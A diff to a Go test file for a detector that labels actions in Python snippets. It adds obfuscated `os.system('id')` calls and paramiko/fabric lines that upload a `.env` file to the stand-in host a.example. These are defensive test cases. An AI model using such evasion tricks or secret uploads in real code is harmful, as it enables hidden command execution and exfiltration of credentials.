@@ -52,6 +52,7 @@ func TestPythonRunsCommands(t *testing.T) {
 func TestPythonHidesNothing(t *testing.T) {
 	check(t, Python, []sample{
 		{`__import__('os').system('id')`, []string{"shell id"}},
+		{`__import__('os.path').system('id')`, []string{"shell id"}},
 		{`importlib.import_module('o' + 's').system('id')`, []string{"shell id"}},
 		{`getattr(os, 'sys' + 'tem')('id')`, []string{"shell id"}},
 		{`getattr(__import__('so'[::-1]), 'metsys'[::-1])('id')`, []string{"shell id"}},
@@ -132,5 +133,14 @@ func TestPythonEverydayProgramsDoNothing(t *testing.T) {
 		{"s = open('a.py').read()\ns = re.sub('a', 'b', s)\nopen('a.py', 'w').write(s)", []string{"read a.py", "write a.py from a.py"}},
 		{`import numpy as np; a = np.zeros((3, 3)); print(a.T @ a, a[1:, ::2])`, []string{}},
 		{`items.remove(x); s.replace('a', 'b'); d.pop('k'); q.delete(); m.move(1, 2)`, []string{}},
+	})
+}
+
+func TestPythonPutsFilesOnOtherMachines(t *testing.T) {
+	check(t, Python, []sample{
+		{`import paramiko; c = paramiko.SSHClient(); c.connect('a.example', username='x'); c.open_sftp().put('.env', 'k')`, []string{"send a.example from .env"}},
+		{`import paramiko; t = paramiko.Transport(('a.example', 22)); paramiko.SFTPClient.from_transport(t).put('.env', 'k')`, []string{"send a.example from .env"}},
+		{`from fabric import Connection; Connection('a.example').put('.env')`, []string{"send a.example from .env"}},
+		{`import paramiko; paramiko.SSHClient().connect('a.example')`, nil},
 	})
 }
